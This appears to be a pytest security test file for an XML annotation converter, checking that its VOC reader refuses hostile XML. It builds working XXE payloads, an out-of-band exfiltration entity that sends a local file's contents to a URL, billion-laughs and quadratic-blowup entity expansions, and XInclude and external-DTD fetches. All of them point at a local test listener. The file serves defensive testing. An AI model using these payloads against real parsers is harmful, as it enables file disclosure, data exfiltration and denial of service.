"""Hostile VOC XML against the reader and the whole command: external entities (file and
http), parameter entities and out-of-band exfiltration, billion laughs, quadratic blowup,
external DTDs, XInclude, stylesheets, deep nesting.

Every attack is refused or read without effect: a TCP listener on 127.0.0.1 (which every URL in
the attacks points to) must see no connection at all, a secret file's content never appears in
records, errors, the output or the report, and each case finishes in bounded time.
(tests/test_voc.py holds the exact error messages of the basic cases.)
"""

from __future__ import annotations

import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from factories import labelimg_xml, write

from annoconv.cli import main
from annoconv.formats.base import BadItem
from annoconv.formats.voc import VocReader
from annoconv.schema import ImageRecord

pytestmark = pytest.mark.timeout(30)

SECRET = "SECRET-4f1d9c-do-not-leak"
GOOD_BODY = labelimg_xml("a.jpg", 64, 48, [("dog", 1, 2, 30, 40)])


class Listener:
    """A TCP socket on 127.0.0.1 that accepts and counts connections (any protocol)."""

    def __init__(self) -> None:
        self.connections = 0
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(16)
        self.sock.settimeout(0.05)
        self.port = self.sock.getsockname()[1]
        self.url = f"http://127.0.0.1:{self.port}"
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            with conn:
                conn.sendall(b"HTTP/1.0 200 OK\r\n\r\n<!ENTITY leak 'FETCHED'>")

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.close()


def attack_documents(secret: Path, url: str) -> dict[str, bytes]:
    """name -> file content; `secret` is a local file, `url` the listener."""
    file_url = secret.as_uri()
    laughs = ['<!ENTITY l0 "lol">'] + [
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)
    ]
    quadratic = "&q;" * 20000

    def with_dtd(dtd: str, filename: str = "&x;") -> str:
        body = GOOD_BODY.replace("<filename>a.jpg</filename>", f"<filename>{filename}</filename>")
        return f'<?xml version="1.0"?>\n<!DOCTYPE annotation [\n{dtd}\n]>\n{body}'

    docs = {
        "xxe-file": with_dtd(f'<!ENTITY x SYSTEM "{file_url}">'),
        "xxe-file-path": with_dtd(f'<!ENTITY x SYSTEM "{secret}">'),
        "xxe-http": with_dtd(f'<!ENTITY x SYSTEM "{url}/x">'),
        "xxe-public": with_dtd(f'<!ENTITY x PUBLIC "-//A//B" "{url}/p">'),
        "xxe-in-attribute": with_dtd(f'<!ENTITY x SYSTEM "{file_url}">', "a.jpg").replace(
            "<annotation>", '<annotation verified="&x;">'
        ),
        "parameter-entity-http": with_dtd(f'<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;'),
        "parameter-entity-file": with_dtd(f'<!ENTITY % p SYSTEM "{file_url}"> %p;'),
        "out-of-band-exfiltration": with_dtd(
            f'<!ENTITY % file SYSTEM "{file_url}">\n'
            f"<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '{url}/?d=%file;'>\">\n"
            "%eval;\n%send;"
        ),
        "billion-laughs": with_dtd("".join(laughs).replace("l9", "x")),
        "quadratic-blowup": with_dtd(f'<!ENTITY q "{"B" * 50000}">', quadratic),
        "external-dtd-http": (
            f'<?xml version="1.0"?>\n<!DOCTYPE annotation SYSTEM "{url}/voc.dtd">\n{GOOD_BODY}'
        ),
        "external-dtd-file": (
            f'<?xml version="1.0"?>\n<!DOCTYPE annotation SYSTEM "{file_url}">\n{GOOD_BODY}'
        ),
        "external-dtd-public": (
            f'<?xml version="1.0"?>\n<!DOCTYPE annotation PUBLIC "-//VOC//EN" "{url}/v.dtd">\n'
            f"{GOOD_BODY}"
        ),
        "entity-from-external-dtd": (
            f'<?xml version="1.0"?>\n<!DOCTYPE annotation SYSTEM "{url}/voc.dtd">\n'
            + GOOD_BODY.replace("<name>dog</name>", "<name>&leak;</name>")
        ),
        "xinclude": GOOD_BODY.replace(
            "<name>dog</name>",
            '<name xmlns:xi="http://www.w3.org/2001/XInclude">'
            f'<xi:include href="{file_url}" parse="text"/>dog</name>',
        ).replace(
            "<segmented>",
            f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{url}/i"/><segmented>',
        ),
        "stylesheet": f'<?xml-stylesheet type="text/xsl" href="{url}/s.xsl"?>\n{GOOD_BODY}',
        "schema-location": GOOD_BODY.replace(
            "<annotation>",
            '<annotation xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            f'xsi:noNamespaceSchemaLocation="{url}/voc.xsd">',
        ),
        "deep-nesting": "<annotation>" + "<a>" * 100000 + "</a>" * 100000 + "</annotation>",
    }
    encoded = {name: text.encode() for name, text in docs.items()}
    utf16 = docs["xxe-http"].replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    encoded["xxe-http-utf16"] = utf16.encode("utf-16")
    utf32 = docs["parameter-entity-http"].replace(
        'version="1.0"', 'version="1.0" encoding="UTF-32"'
    )
    encoded["parameter-entity-utf32"] = utf32.encode("utf-32")
    return encoded


ATTACKS = sorted(attack_documents(Path("/x"), "http://127.0.0.1:1"))
# Documents whose DTD only names an external file: read as plain VOC (the DTD is never loaded).
HARMLESS_WITHOUT_THE_DTD = {
    "external-dtd-http",
    "external-dtd-file",
    "external-dtd-public",
    "stylesheet",
    "schema-location",
}


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    return write(tmp_path / "private" / "secret.txt", SECRET)


@pytest.mark.parametrize("attack", ATTACKS)
def test_reader_refuses_without_network_or_disclosure(
    attack: str, tmp_path: Path, secret: Path, listener: Listener
) -> None:
    xml = write(tmp_path / "ann" / f"{attack}.xml", attack_documents(secret, listener.url)[attack])
    (item,) = list(VocReader(str(xml)))
    assert SECRET not in repr(item)
    assert "FETCHED" not in repr(item)
    if attack in HARMLESS_WITHOUT_THE_DTD:
        assert isinstance(item, ImageRecord), item
        assert [(o.label, o.xmax) for o in item.objects] == [("dog", 30)]
    else:
        assert isinstance(item, BadItem), item
        assert str(item.error).startswith(f"{xml}: ")
    assert listener.connections == 0


def test_the_command_converts_the_rest_and_leaks_nothing(
    tmp_path: Path, secret: Path, listener: Listener, capsys: pytest.CaptureFixture[str]
) -> None:
    ann = tmp_path / "ann"
    for name, data in attack_documents(secret, listener.url).items():
        write(ann / f"{name}.xml", data)
    write(ann / "good.xml", labelimg_xml("good.jpg", 10, 10, [("cat", 1, 1, 5, 5)]))
    out, report_path = tmp_path / "out" / "boxes.csv", tmp_path / "out" / "report.json"
    code = main(
        ["xml2csv", str(ann), str(out), "--on-error", "skip", "--report-json", str(report_path)]
    )
    assert code == 0
    captured = capsys.readouterr()
    report = json.loads(report_path.read_text(encoding="utf-8"))
    refused = len(ATTACKS) - len(HARMLESS_WITHOUT_THE_DTD)
    assert report["images"] == {"read": len(ATTACKS) + 1, "written": 6, "skipped": refused}
    assert {Path(item["source"]).stem for item in report["skipped"]} == (
        set(ATTACKS) - HARMLESS_WITHOUT_THE_DTD
    )
    rows = out.read_text(encoding="utf-8").splitlines()
    expected = {name: "a.jpg,64,48,dog,1,2,30,40" for name in HARMLESS_WITHOUT_THE_DTD}
    expected["good"] = "good.jpg,10,10,cat,1,1,5,5"
    assert rows[1:] == [expected[name] for name in sorted(expected)]
    everything = (
        captured.out
        + captured.err
        + "".join(path.read_text(encoding="utf-8") for path in (tmp_path / "out").iterdir())
    )
    assert SECRET not in everything and "FETCHED" not in everything
    assert listener.connections == 0


@pytest.mark.parametrize("attack", ["xxe-file", "out-of-band-exfiltration", "billion-laughs"])
def test_under_fail_the_command_names_the_file_and_writes_nothing(
    attack: str,
    tmp_path: Path,
    secret: Path,
    listener: Listener,
    capsys: pytest.CaptureFixture[str],
) -> None:
    xml = write(tmp_path / "ann" / "x.xml", attack_documents(secret, listener.url)[attack])
    out = tmp_path / "out.csv"
    assert main(["xml2csv", str(xml.parent), str(out), "-q"]) == 1
    err = capsys.readouterr().err
    assert err == f"annoconv: error: {xml}: DTD entity declarations are not allowed\n"
    assert not out.exists() and listener.connections == 0
